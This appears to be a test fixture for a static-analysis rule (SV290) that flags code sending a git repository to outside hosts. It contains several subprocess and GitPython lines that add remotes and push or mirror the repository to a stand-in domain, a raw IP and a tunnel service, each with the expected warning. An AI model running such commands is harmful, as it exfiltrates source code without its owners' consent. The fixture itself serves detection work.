import subprocess

import git

subprocess.run(["git", "remote", "add", "backup", "https://gitlab.example.net/drop/repo.git"])  # want "SV290: sends the repository .*git remote add backup"
subprocess.run(["git", "push", "--mirror", "http://203.0.113.30/r.git"])  # want "SV290: .*--mirror.*raw IP address"
subprocess.run("git push https://x.ngrok-free.app/r.git HEAD", shell=True)  # want "SV290: .*tunnel service"
repo = git.Repo(".")
repo.create_remote("mirror", "https://gitlab.example.net/m.git")  # want "SV290: sends the repository .*create_remote"
